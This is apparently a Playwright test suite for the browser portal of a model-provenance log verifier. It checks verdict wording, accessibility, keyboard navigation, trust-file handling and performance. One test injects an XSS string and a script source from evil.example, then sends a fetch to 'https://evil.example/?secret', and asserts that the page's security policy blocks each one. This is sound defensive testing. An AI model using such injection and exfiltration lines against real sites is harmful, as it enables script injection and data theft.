// The page alone, in Chromium, with a stand-in verifier: its states, words, keyboard and rules.
import assert from "node:assert/strict";
import { mkdir, rename, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { pathToFileURL } from "node:url";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { seriousFaults, withAxe } from "./axe.js";
import { browserPath, launch, openPage } from "./browser.js";
import { RESNET } from "./fixture/reports.js";
import { POLICY, serveFixture, temporary } from "./fixture/site.js";
import type { Host } from "./server.js";

const site = process.env["GLASSLOG_SITE"] ?? ".";
/** Folder for screenshots, to be looked at. */
const shots = process.env["GLASSLOG_SHOTS"] ?? join(tmpdir(), "glasslog-portal-shots");
const OTHER_POLICY = POLICY.replaceAll("0a1b2c3d", "ffffffff");

/** Headline of the stand-in verifier. */
const told = (events: number, about: string): string => `The stand-in tells of ${events} events about ${about}.`;

const STATES: Readonly<Record<string, string>> = {
  "resnet50@2.1": told(9, "resnet50@2.1"),
  held: told(9, "held"),
  twice: told(9, "twice"),
  altered:
    "Entry 88204 in tile/entries/x000/344 hashes to qpLSf0M1x0t8oKq2v3w7B0n6m4r9y1u5s8d2f6g3h0A=, " +
    "but the tree holds 1zYx7bT5q2w9e8r4t6y3u1i0o5p7a9s8d6f4g2h0j1E=.",
  missing: "tile/entries/x000/344 is missing.",
  html: "The note has no blank line before its signatures.",
  absent: told(0, "absent"),
  stranger: "The trust policy names no log models.example.com/access.",
  lonely: "1 of 3 witnesses cosigned, too few for the quorum.",
  unsigned: "2 of 9 events are not signed by a key valid at their position.",
  odd: "The signature of event 10 is wrong.",
  claimed: told(9, "claimed"),
  short:
    "Complete as claimed by the index for the first 98304 entries, and by a scan up to entry 98304 of 120451; " +
    "the last 22147 were not read, since a reader scans no more than 65536 entries and 64 MiB.",
  noindex: "index/run/1b5/x000/017 is missing.",
};

describe(
  "the page",
  { skip: browserPath === undefined && "no Chrome or Chromium is installed (CHROMIUM=PATH names one)" },
  () => {
    let browser: Browser;
    let host: Host;
    let shipped: string | undefined = POLICY;
    /** Sends the late files. */
    let letGo: () => void;

    before(async () => {
      const dist = await temporary("fixture");
      const { build } = (await import(pathToFileURL(join(site, "build.mjs")).href)) as {
        build(options: object): Promise<void>;
      };
      await build({ out: dist, fixture: true });
      host = await serveFixture(dist, () => shipped, new Promise((resolve) => (letGo = resolve)));
      browser = await launch(["--host-resolver-rules=MAP models.test 127.0.0.1"]);
      await mkdir(shots, { recursive: true });
    });

    after(async () => {
      await browser?.close();
      await host?.close();
    });

    /** Opens the page, runs, and fails if the page itself had a fault. */
    async function visit(
      fragment: string,
      run: (page: Page) => Promise<void>,
      options: BrowserContextOptions & { allow?: RegExp; url?: string } = {},
    ): Promise<void> {
      const { allow, url = host.url, ...context } = options;
      const { page, faults } = await openPage(browser, context);
      await withAxe(page.context());
      const elsewhere: string[] = [];
      page.on("request", (request) => {
        if (!request.url().startsWith(url) && !/^(blob|data):/.test(request.url())) elsewhere.push(request.url());
      });
      try {
        await page.goto(`${url}portal/${fragment}`);
        await run(page);
        assert.deepEqual(allow ? faults.filter((fault) => !allow.test(fault)) : faults, []);
        assert.deepEqual(elsewhere, [], "no other host is asked");
      } finally {
        await page.context().close();
      }
    }

    async function look(page: Page, name: string): Promise<void> {
      await page.screenshot({ path: join(shots, `${name}.png`), fullPage: true });
      assert.deepEqual(await seriousFaults(page), []);
      assert.equal(
        await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
        true,
        "nothing sticks out sideways",
      );
    }

    const headline = (page: Page, text: string): Promise<void> =>
      page.getByRole("heading", { level: 1, name: text, exact: true }).waitFor();

    const explained = (page: Page, why: RegExp): Promise<void> =>
      page.locator("gl-verdict .why").filter({ hasText: why }).waitFor();

    for (const scheme of ["light", "dark"] as const) {
      for (const [device, width, height] of [
        ["phone", 390, 844],
        ["tablet", 820, 1180],
        ["desktop", 1280, 900],
      ] as const) {
        test(`every state has its words and nothing serious against it: ${device}, ${scheme}`, async () => {
          await visit(
            "",
            async (page) => {
              await headline(page, "Who touched this model, when, and why?");
              await look(page, `welcome-${device}-${scheme}`);
              for (const [state, words] of Object.entries(STATES)) {
                await page.evaluate((fragment) => (location.hash = fragment), `#q=${state}`);
                await headline(page, words);
                if (state === "odd" || state === "resnet50@2.1")
                  await page.locator("gl-events button.toggle").first().click();
                await look(page, `${state.replace("@", "-")}-${device}-${scheme}`);
              }
            },
            { viewport: { width, height }, colorScheme: scheme },
          );
        });
      }
    }

    test("nothing is green before it is proven, and nothing jumps when it is", async () => {
      await visit("#q=slow", async (page) => {
        await headline(page, "Checking slow");
        assert.equal(await page.locator("gl-verdict .pass").count(), 0);
        assert.equal(await page.locator("gl-verdict svg.mark.pending").count(), 4);
        assert.equal(await page.locator("gl-events").count(), 0);
        await page.screenshot({ path: join(shots, "working-desktop-light.png") });
        await page.evaluate(watchShifts);
        await page.evaluate(() => (location.hash = "#q=resnet50@2.1"));
        await headline(page, STATES["resnet50@2.1"] ?? "");
        await page.locator("gl-timeline g.hit").first().waitFor();
        await page.evaluate(settle);
        assert.deepEqual(await page.evaluate(takeShifts), []);
      });
    });

    test("events fill in as their entries are read, none green before the verdict, and nothing jumps", async () => {
      await visit("", async (page) => {
        await headline(page, "Who touched this model, when, and why?");
        await page.evaluate(() => (location.hash = "#q=waves"));
        await page.getByText("5000 events, positions proven against the index; 300 read so far").waitFor();
        await page.evaluate(settle);
        await page.evaluate(watchShifts);
        assert.equal(await page.locator("gl-events .pass").count(), 0);
        assert.equal(await page.locator("gl-events table").getAttribute("aria-rowcount"), "5001");
        assert.equal(await page.locator("gl-events tr.event").first().locator(".at").innerText(), "100");
        await page.locator("gl-events .rows").evaluate((list) => (list.scrollTop = 100_000));
        await page.getByText("being verified").first().waitFor();
        // A screenshot of the whole page would lay it out anew.
        await page.screenshot({ path: join(shots, "waves-desktop-light.png") });
        await page.locator("gl-events .rows").evaluate((list) => (list.scrollTop = 900));
        letGo();
        await headline(page, told(5000, "waves"));
        await page.locator("gl-events .pass").first().waitFor();
        assert.equal(
          await page.locator("gl-events .rows").evaluate((list) => list.scrollTop),
          900,
          "the reader stays in place",
        );
        await page.locator("gl-timeline g.hit").first().waitFor();
        await page.evaluate(settle);
        assert.deepEqual(await page.evaluate(takeShifts), []);
      });
    });

    test("works without a mouse", async () => {
      await visit("", async (page) => {
        await headline(page, "Who touched this model, when, and why?");
        await page.keyboard.press("/");
        await page.keyboard.type("resnet50@2.1");
        await page.keyboard.press("Enter");
        await headline(page, STATES["resnet50@2.1"] ?? "");
        assert.match(page.url(), /#q=resnet50@2\.1$/);
        const focused = async (): Promise<string> =>
          page.evaluate(() => {
            let element = document.activeElement;
            while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
            return (element?.getAttribute("aria-label") ?? element?.textContent ?? "").trim();
          });
        const tabTo = async (name: RegExp): Promise<void> => {
          for (let step = 0; step < 60; step++) {
            if (name.test(await focused())) return;
            await page.keyboard.press("Tab");
          }
          assert.fail(`no way by keyboard to ${name}`);
        };
        await tabTo(/^Review$/);
        await page.keyboard.press("Enter");
        await page.getByRole("dialog", { name: "Whose signatures count" }).waitFor();
        await page.keyboard.press("Escape");
        await page.getByRole("dialog").waitFor({ state: "hidden" });
        await tabTo(/^transfer$/);
        await page.keyboard.press("Enter");
        await page.getByText("from team:ml-platform at s3://models to team:edge at plant 4").waitFor();
        await tabTo(/^ml-platform$/);
        await page.keyboard.press("Enter");
        await headline(page, told(9, "ml-platform"));
        assert.equal(await focused(), told(9, "ml-platform"), "the reader goes on at the new verdict");
        await page.goBack();
        await headline(page, STATES["resnet50@2.1"] ?? "");
      });
    });

    test("what happened is announced to screen readers", async () => {
      await visit("#q=altered", async (page) => {
        await headline(page, STATES["altered"] ?? "");
        const status = page.locator("gl-portal > .hush, .hush[aria-live]").last();
        assert.match(
          (await status.textContent()) ?? "",
          /^Entry 88204 in tile.*This copy of the record was altered or damaged\./,
        );
        assert.match(await page.title(), /^Entry 88204 in tile/);
        assert.equal(
          await page.locator("gl-verdict").getByRole("img", { name: "failed" }).count(),
          2,
          "the sentence and the claim",
        );
      });
    });

    test("text from the log is data, odd characters are seen, and identifiers are copied whole", async () => {
      await visit(
        "#q=odd",
        async (page) => {
          await headline(page, STATES["odd"] ?? "");
          assert.equal(await page.locator("gl-events img").count(), 0);
          assert.ok((await page.locator("gl-events .odd").allTextContents()).includes("U+202E"));
          await page.locator("gl-events button.toggle").first().click();
          assert.equal(await page.locator("gl-event a[href^='javascript']").count(), 0);
          const id = page.locator("gl-event gl-id").first();
          const whole = await id.evaluate((element) => (element as unknown as { value: string }).value);
          await id.hover();
          const { x, y, width, height } = (await id.boundingBox()) ?? assert.fail("the identifier is not on show");
          await page.mouse.move(x, y + height / 2);
          await page.mouse.down();
          await page.mouse.move(x + width, y + height / 2, { steps: 5 });
          await page.mouse.up();
          await page.keyboard.press("Control+C");
          // The browser copies in its own time.
          await page.waitForFunction(async () => (await navigator.clipboard.readText()) !== "");
          assert.equal(await page.evaluate(() => navigator.clipboard.readText()), whole);
          await page.locator("gl-event gl-id button").first().click();
          assert.equal(await id.locator("bdi").innerText(), whole);
        },
        { permissions: ["clipboard-read", "clipboard-write"] },
      );
    });

    test("what is injected does not run, and nothing leaves for another host", async () => {
      await visit(
        "",
        async (page) => {
          await headline(page, "Who touched this model, when, and why?");
          const outcome = await page.evaluate(async () => {
            const seen = globalThis as unknown as { ran?: boolean };
            const attempt = (act: () => void): string => {
              try {
                act();
                return "went through";
              } catch (error) {
                return (error as Error).name;
              }
            };
            const script = document.createElement("script");
            return {
              markup: attempt(() => (document.body.innerHTML = "<img src=x onerror='ran=true'>")),
              script: attempt(() => (script.text = "ran=true")),
              source: attempt(() => (script.src = "https://evil.example/x.js")),
              worker: attempt(() => new Worker("portal.js")),
              elsewhere: await fetch("https://evil.example/?secret").then(
                () => "went through",
                (error: Error) => error.name,
              ),
              ran: seen.ran ?? false,
            };
          });
          assert.deepEqual(outcome, {
            markup: "TypeError",
            script: "TypeError",
            source: "TypeError",
            worker: "TypeError",
            elsewhere: "TypeError",
            ran: false,
          });
        },
        { allow: /security policy|Content Security Policy|TrustedHTML|Trusted|evil\.example/ },
      );
    });

    test("a dropped model is hashed here and found by its digest", async () => {
      await visit("", async (page) => {
        await drop(page, "model.bin", "weights");
        await explained(page, /^This is about the content of the file model\.bin\. /);
        assert.match(page.url(), /#q=sha256:92745110[0-9a-f]{56}$/);
        await headline(page, told(9, page.url().replace(/.*#q=/, "")));
        await page.getByText(/^glasslog verify file model.bin --log http.* --policy trust.policy$/).waitFor();
      });
    });

    test("a chosen folder is hashed here, and each file that differs is named", async () => {
      await visit("", async (page) => {
        const folder = join(await temporary("folder"), "model");
        const choose = (): Promise<void> => page.locator("gl-search input[webkitdirectory]").setInputFiles(folder);
        await mkdir(join(folder, ".git"), { recursive: true });
        await writeFile(join(folder, ".git/HEAD"), "ref: refs/heads/main");
        await choose();
        await headline(page, "This question cannot be looked up.");
        await page.locator("gl-verdict").getByText("the folder holds no file").waitFor();
        await writeFile(join(folder, "registered"), "weights");
        await choose();
        await headline(page, told(9, RESNET));
        await explained(
          page,
          /^This is about the content of the folder model\. Each of its files is as it was registered\./,
        );
        await page.locator("gl-verdict").getByText("Not hashed: .git.").waitFor();
        assert.equal(await page.locator("gl-folder").count(), 0);
        await rename(join(folder, "registered"), join(folder, "differs"));
        await choose();
        await headline(page, "The folder is not as entry 12 registers resnet50@2.1: 1 changed, 2 missing, 150 extra.");
        const text = (await page.locator("gl-folder section").innerText()).split("\n").filter(Boolean);
        assert.deepEqual(text.slice(0, 6), [
          "Files that differ from the registration",
          "Changed: 1 file",
          "model-1.bin",
          "Missing: 2 files",
          "config.json",
          "tokenizer/evilU+202Egnp.json",
        ]);
        assert.deepEqual(text.slice(-1), ["and 50 more, in the saved report"]);
        await look(page, "folder-differs");
      });
    });

    test("a dropped bundle is verified without a request", async () => {
      await visit("", async (page) => {
        await headline(page, "Who touched this model, when, and why?");
        await drop(page, "resnet.glasslog-bundle", "glasslog-bundle/v1\nrest");
        await page.getByText("all in this tab and without a request").waitFor();
        await page.getByText("glasslog verify bundle resnet.glasslog-bundle --policy trust.policy").waitFor();
      });
    });

    test("where the index does not answer, the whole log can be read instead", async () => {
      await visit("#q=noindex", async (page) => {
        await headline(page, STATES["noindex"] ?? "");
        await page.getByRole("button", { name: "Read the whole log instead" }).click();
        await page.getByText(/^glasslog history noindex .* --full-scan$/).waitFor();
        await headline(page, told(9, "resnet50@2.1"));
        assert.match(page.url(), /#q=noindex&scan=full$/);
        assert.equal(await page.getByRole("button", { name: "Read the whole log instead" }).count(), 0);
        await page.getByLabel("Artifact, digest, actor or key").fill("claimed");
        await page.keyboard.press("Enter");
        await headline(page, STATES["claimed"] ?? "");
        assert.match(page.url(), /#q=claimed$/, "the next question asks the index again");
      });
    });

    test("a dropped fraud proof is judged without a request, and says who is accused of what", async () => {
      await visit("", async (page) => {
        await headline(page, "Who touched this model, when, and why?");
        const proof = (text: string): Promise<void> => drop(page, "index.fraud", `glasslog-index-fraud/v1\n${text}\n`);
        await proof("kind omission audited");
        await headline(page, told(0, "omission"));
        await page.getByText(/^The accusation holds\. /).waitFor();
        await page.getByText("glasslog verify fraud index.fraud --policy trust.policy").waitFor();
        await page.getByText("all in this tab and without a request").waitFor();
        for (const words of ["entry 12 of the index", "entry 16\u202f391 of the log", "auditor.example.org"])
          await page.locator("gl-fraud").getByText(words, { exact: true }).waitFor();
        assert.equal(await page.locator("gl-verdict .claims").count(), 0, "nothing is claimed about events");
        await look(page, "fraud-desktop-light");
        await proof("kind omission wrong");
        await headline(page, "Nothing false is shown: the evidence comes from the index, and breaks no rule.");
        await page
          .locator("gl-verdict")
          .getByText(/^This file proves nothing against the index\. /)
          .waitFor();
        await look(page, "fraud-wrong-desktop-light");
        await proof("kind omission stranger");
        await headline(page, "The trust policy names no key of an index models.example.com/access/index that signed.");
        await proof("");
        await headline(page, "The first line is not glasslog-index-fraud/v1.");
        assert.equal(await page.locator("gl-fraud").count(), 0);
      });
    });

    test("without a trust file the page asks for one, keeps it, and forgets it on request", async () => {
      shipped = undefined;
      try {
        await visit("#q=resnet50@2.1", async (page) => {
          await headline(page, "A trust file is missing.");
          await page.getByRole("button", { name: "Choose a trust file" }).click();
          await page.getByLabel("The file itself").fill(POLICY);
          await page.screenshot({ path: join(shots, "trust-desktop-light.png") });
          assert.deepEqual(await seriousFaults(page), []);
          await page.getByRole("button", { name: "Trust these keys" }).click();
          await headline(page, STATES["resnet50@2.1"] ?? "");
          await page.getByText("your own trust file").waitFor();
          await page.reload();
          await page.getByText("your own trust file").waitFor();
          await page.getByRole("button", { name: "Review" }).click();
          await page.getByRole("button", { name: "Forget mine" }).click();
          await headline(page, "A trust file is missing.");
          await drop(page, "trust.policy", OTHER_POLICY);
          await page.getByRole("dialog").getByText("ffffffff", { exact: true }).waitFor();
          await page.keyboard.press("Escape");
          await headline(page, "A trust file is missing.");
        });
      } finally {
        shipped = POLICY;
      }
    });

    test("a changed trust file of the page is announced, and counts only when the reader accepts it", async () => {
      const url = host.url.replace("127.0.0.1", "models.test");
      try {
        await visit(
          "#q=resnet50@2.1",
          async (page) => {
            await page.getByText("the trust file that came with this page", { exact: true }).waitFor();
            shipped = OTHER_POLICY;
            await page.reload();
            await page.getByText("The trust file that comes with this page has changed.").waitFor();
            await page.getByRole("button", { name: "Review" }).click();
            await page.getByRole("dialog").getByText("0a1b2c3d", { exact: true }).waitFor();
            await page.getByRole("button", { name: "Accept the new one" }).click();
            await page.getByText("the trust file that came with this page", { exact: true }).waitFor();
          },
          { url },
        );
      } finally {
        shipped = POLICY;
      }
    });

    test("a limit on the checkpoint's age is a part of the question", async () => {
      await visit("#q=old", async (page) => {
        await page.getByLabel("Oldest checkpoint to accept as fresh").selectOption("1h");
        await page.getByText(/^The newest checkpoint that witnesses vouch for is 3 days .*; the limit is/).waitFor();
        await page.getByText("--max-checkpoint-age 1h").waitFor();
        assert.match(page.url(), /#q=old&age=1h$/);
      });
    });

    test("what is no question, and what cannot be reached, is no verdict", async () => {
      await visit("#q=pkg:npm/x", async (page) => {
        await headline(page, "This question cannot be looked up.");
        await page.locator("gl-verdict").getByText("a package address needs a digest").waitFor();
        assert.equal(await page.locator("gl-verdict .claims").count(), 0);
      });
      await visit(
        "#q=x@1&log=https://elsewhere.example/log",
        async (page) => {
          await headline(page, "This page may not read that log.");
        },
        { allow: /connect-src|elsewhere\.example/ },
      );
    });

    test("a verifier that traps is told, and a fresh one takes the next question", async () => {
      await visit("#q=trap", async (page) => {
        await headline(page, "The verifier stopped.");
        const verdict = page.locator("gl-verdict");
        await verdict.getByText("unreachable executed").waitFor();
        assert.equal(await page.locator("gl-verdict .claims").count(), 0);
        await page.evaluate(() => (location.hash = "#q=many"));
        await headline(page, told(5000, "many"));
      });
    });

    test("of a long history only visible rows are drawn; it scrolls, turns, filters and takes keys", async () => {
      await visit("#q=many", async (page) => {
        await headline(page, told(5000, "many"));
        const rows = page.locator("gl-events tr.event");
        assert.ok((await rows.count()) < 80, "few rows are drawn");
        assert.equal(await page.locator("gl-events table").getAttribute("aria-rowcount"), "5001");
        assert.equal(await page.locator("gl-timeline g.hit").count(), 200);
        // Scrolled to its end, the list shows its last event with its row number.
        const list = page.getByRole("group", { name: "List of events" });
        await list.evaluate((element) => (element.scrollTop = element.scrollHeight));
        await page.locator("#entry-100080").waitFor();
        assert.equal(await page.locator("#entry-100080").getAttribute("aria-rowindex"), "5001");
        assert.ok((await rows.count()) < 80);
        // A mark in the timeline opens its row and scrolls it into view.
        await list.evaluate((element) => (element.scrollTop = 0));
        await page.locator("gl-timeline g.hit").nth(150).click();
        await page.locator("gl-event").waitFor();
        assert.ok(await page.locator("gl-events tr.open").evaluate((row) => row.getBoundingClientRect().top > 0));
        await page.locator("gl-events tr.open button.toggle").click();
        // Keys move from row to row, past those that are drawn.
        await page.getByRole("button", { name: "Newest first" }).click();
        await page.locator("#entry-100080 button.toggle").focus();
        for (const [key, entry] of [
          ["ArrowDown", 100_060],
          ["End", 100],
          ["ArrowUp", 120],
          ["Home", 100_080],
        ] as const) {
          await page.keyboard.press(key);
          await page.waitForFunction((id) => {
            let element = document.activeElement;
            while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
            return element?.closest("tr")?.id === id;
          }, `entry-${entry}`);
        }
        // The focus stays on a row that scrolls out of view.
        await list.evaluate(async (element) => {
          element.scrollTop = 90_000;
          const isDrawn = (): boolean =>
            [...element.querySelectorAll("tr.event")].some((row) => Number(row.getAttribute("data-at")) > 1000);
          while (!isDrawn()) await new Promise((resolve) => requestAnimationFrame(resolve));
        });
        await page.waitForFunction(() => document.activeElement !== document.body);
        assert.equal(await page.locator("#entry-100080").count(), 1);
        // The strip moves to earlier events.
        await page.getByRole("slider").focus();
        await page.keyboard.press("Home");
        assert.match(
          (await page.getByRole("slider").getAttribute("aria-valuetext")) ?? "",
          /^events 1 to 200 of 5000, /,
        );
        // A filter searches all events.
        await page.getByLabel("Filter events by words").fill("service-3 deploy");
        await page.getByText("55 of 5000 events, 1 actor; times are UTC, as actors claim them").waitFor();
        assert.equal(await rows.count(), 55, "a short list is drawn whole");
        await page.getByLabel("Filter events by kind").selectOption("custody");
        await page.getByText("None of the 5000 events matches the filter.").waitFor();
        await look(page, "many-none-desktop-light");
        await page.getByLabel("Filter events by words").fill("");
        await page.getByLabel("Filter events by kind").selectOption("all");
        await page.getByText("5000 events, 13 actors").waitFor();
        await look(page, "many-desktop-light");
      });
    });

    test("a hundred thousand events stay fluid", async (context) => {
      await visit("#q=huge", async (page) => {
        await page.evaluate(watchFrames);
        const work = await watchWork(page);
        const measured = async (name: string): Promise<void> => {
          const { count, median, worst } = await page.evaluate(takeFrames);
          const each = (await work()) / Math.max(1, count);
          context.diagnostic(
            `${name}: ${each.toFixed(1)} ms of work a frame; frames of ${median} ms, worst ${worst} ms`,
          );
          // The page's own work is bounded, and not the time of frames, which other programs delay.
          assert.ok(each < 100, `${name}: ${each.toFixed(1)} ms of work a frame`);
        };
        const reset = async (): Promise<void> => {
          await page.evaluate(takeFrames);
          await work();
        };
        await headline(page, told(100_000, "huge"));
        const list = page.getByRole("group", { name: "List of events" });
        await list.waitFor();
        await page.evaluate(settle);
        await measured("arrival");
        for (const [device, width, height] of [
          ["desktop", 1280, 900],
          ["phone", 390, 844],
        ] as const) {
          await page.setViewportSize({ width, height });
          await list.hover();
          await list.evaluate((element) => (element.scrollTop = 0));
          await page.evaluate(settle);
          await reset();
          for (let step = 0; step < 40; step++) await page.mouse.wheel(0, 400);
          await list.evaluate(endScroll);
          await measured(`wheel, ${device}`);
          await list.evaluate(async (element) => {
            for (let step = 0; step <= 60; step++) {
              element.scrollTop = (element.scrollHeight * ((step * 37) % 61)) / 61;
              await new Promise((resolve) => requestAnimationFrame(resolve));
            }
          });
          await measured(`leaps, ${device}`);
          assert.ok((await page.locator("gl-events tr").count()) < 90, "few rows are drawn");
          await look(page, `huge-${device}-light`);
        }
        await reset();
        await page.getByLabel("Filter events by words").fill("service-3 deploy");
        await page
          .locator("gl-events")
          .getByText(/^1099 of 100/)
          .waitFor();
        await measured("filter");
      });
    });
  },
);

/** Waits for three frames: one lays out what has come, one what measures itself, one paints the result. */
async function settle(): Promise<void> {
  for (let frame = 0; frame < 3; frame++) await new Promise((resolve) => requestAnimationFrame(resolve));
}

/** Waits until an element scrolls from its top, and then until it stays in place for three frames. */
async function endScroll(element: Element): Promise<void> {
  let [last, still] = [0, 0];
  while (last === 0 || still < 3) {
    await new Promise((resolve) => requestAnimationFrame(resolve));
    still = element.scrollTop === last ? still + 1 : 0;
    last = element.scrollTop;
  }
}

/** Watches for layout shifts, which move parts of the page that the reader did not touch. */
function watchShifts(): void {
  const seen = globalThis as unknown as { shifts: string[]; takeShifts: () => string[] };
  seen.shifts = [];
  const note = (entries: readonly PerformanceEntry[]): void => {
    for (const entry of entries as readonly (PerformanceEntry & {
      value: number;
      sources: { node: Element; previousRect: DOMRect; currentRect: DOMRect }[];
    })[]) {
      const moved = entry.sources.map(
        ({ node, previousRect, currentRect }) =>
          `${node?.nodeName}.${node?.className} ${previousRect.y}→${currentRect.y}`,
      );
      if (entry.value > 0.02) seen.shifts.push(`${entry.value}: ${moved.join(", ")}`);
    }
  };
  const observer = new PerformanceObserver((list) => note(list.getEntries()));
  observer.observe({ type: "layout-shift" });
  seen.takeShifts = () => (note(observer.takeRecords()), seen.shifts);
}

/** Lists the layout shifts so far, with those that the browser has not reported yet. */
function takeShifts(): string[] {
  return (globalThis as unknown as { takeShifts: () => string[] }).takeShifts();
}

type Frames = { count: number; median: number; worst: number };

/** Measures the time between frames, in milliseconds. */
function watchFrames(): void {
  const seen = globalThis as unknown as { frames: number[] };
  seen.frames = [];
  let last = performance.now();
  const frame = (now: number): void => {
    seen.frames.push(now - last);
    last = now;
    requestAnimationFrame(frame);
  };
  requestAnimationFrame(frame);
}

/** Takes the measurements since the last call. */
function takeFrames(): Frames {
  const seen = globalThis as unknown as { frames: number[] };
  const frames = seen.frames.sort((a, b) => a - b);
  seen.frames = [];
  const [median, worst] = [Math.round(frames[frames.length >> 1] ?? 0), Math.round(frames.at(-1) ?? 0)];
  return { count: frames.length, median, worst };
}

/** Measures the page's main thread; returns its processor time since the last call, in milliseconds. */
async function watchWork(page: Page): Promise<() => Promise<number>> {
  const devtools = await page.context().newCDPSession(page);
  await devtools.send("Performance.enable", { timeDomain: "threadTicks" });
  let last = 0;
  return async () => {
    const { metrics } = await devtools.send("Performance.getMetrics");
    const now = 1000 * (metrics.find(({ name }) => name === "TaskDuration") ?? assert.fail("no measure of work")).value;
    const since = now - last;
    last = now;
    return since;
  };
}

/** Drops a file on the page as a user does. */
async function drop(page: Page, name: string, content: string): Promise<void> {
  const transfer = await page.evaluateHandle(
    ([file, text]) => {
      const data = new DataTransfer();
      data.items.add(new File([text ?? ""], file ?? ""));
      return data;
    },
    [name, content],
  );
  for (const type of ["dragenter", "dragover", "drop"])
    await page.dispatchEvent("body", type, { dataTransfer: transfer });
}
